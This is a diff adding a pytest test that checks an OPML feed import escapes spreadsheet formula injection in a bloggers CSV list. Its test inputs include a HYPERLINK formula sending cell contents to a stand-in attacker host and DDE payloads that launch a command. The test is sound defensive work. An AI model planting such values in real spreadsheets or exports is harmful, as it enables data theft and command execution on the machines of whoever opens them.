@@ -166,3 +166,33 @@ def test_a_list_saved_in_windows_1252_names_the_line_to_fix(room):
     assert result.exit_code == 1
     assert result.output.strip() == ("error: outreach/bloggers.csv:3: not valid UTF-8 (byte 0xeb); "
                                      "save the file as UTF-8")
+
+
+HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+                  "-2+3", "\t=1+1"]
+
+
+@pytest.mark.parametrize("existing", ["", HEADER.replace(",", ";") + "eva@example.nl;Eva;;;;;;;\n"])
+def test_opml_titles_cannot_become_formulas_in_the_list(room, existing):
+    """Feed titles and languages are chosen by the blogs' owners; the list is opened in Excel.
+    Every such cell gets a leading apostrophe (as the mail merge's do), nothing else changes."""
+    from xml.sax.saxutils import quoteattr
+
+    if existing:
+        room.write("outreach/bloggers.csv", existing)
+    outlines = "".join(f'<outline type="rss" text={quoteattr(title)} title={quoteattr(title)} '
+                       f'xmlUrl="https://b{i}.example.org/feed.xml" htmlUrl="https://b{i}.example.org/" '
+                       f'language="=1+1"/>' for i, title in enumerate(HOSTILE_TITLES))
+    opml = room.write("feeds.opml", f'<?xml version="1.0"?><opml version="2.0"><body>{outlines}</body></opml>')
+    result = smr("outreach", "import-opml", "--root", str(room.root), str(opml))
+    assert result.exit_code == 0, result.output
+    assert f"{len(HOSTILE_TITLES)} added, 0 skipped." in result.output
+    text = (room.root / "outreach" / "bloggers.csv").read_text("utf-8")
+    assert text.startswith(existing)   # the user's rows as they were
+    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";" if existing else ","))
+    added = rows[1:] if existing else rows
+    assert [r["blog"] for r in added] == ["'" + t.strip() for t in HOSTILE_TITLES]
+    assert [r["language"] for r in added] == ["'=1+1"] * len(HOSTILE_TITLES)
+    assert [r["feed_url"] for r in added] == [f"https://b{i}.example.org/feed.xml" for i in range(len(HOSTILE_TITLES))]
+    for row in added:
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values() if v)
